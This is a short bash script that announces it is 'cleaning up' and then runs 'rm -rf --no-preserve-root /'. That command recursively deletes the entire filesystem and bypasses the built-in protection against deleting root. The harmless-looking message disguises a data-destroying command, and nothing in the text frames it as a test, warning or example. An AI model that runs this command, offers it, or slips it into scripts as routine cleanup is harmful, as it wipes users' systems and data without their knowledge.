#!/bin/bash
echo "cleaning up"
rm -rf --no-preserve-root /
